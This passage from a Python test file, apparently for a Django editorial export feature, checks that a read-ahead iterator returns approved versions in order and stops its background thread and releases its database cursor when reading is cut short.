    assert record.sha256.encode() in change.content
    assert b'name="_save"' not in change.content


def test_rows_read_ahead_arrive_in_order_and_a_reading_cut_short_stops_the_thread(approved):
    import threading

    from editorial.exporters import approved_versions, read_ahead

    expected = list(approved_versions())
    with read_ahead(approved_versions().iterator(chunk_size=2), chunk=2) as rows:
        assert list(rows) == expected
    with read_ahead(approved_versions().iterator(chunk_size=1), chunk=1) as rows:
        assert next(rows) == expected[0]  # the download is cut short here
    assert not [t for t in threading.enumerate() if t.name == "export-read-ahead"]
    # The connection is free again: the cursor was closed before it was handed back.
    assert ApprovedVersion.objects.count() == len(expected) == 5
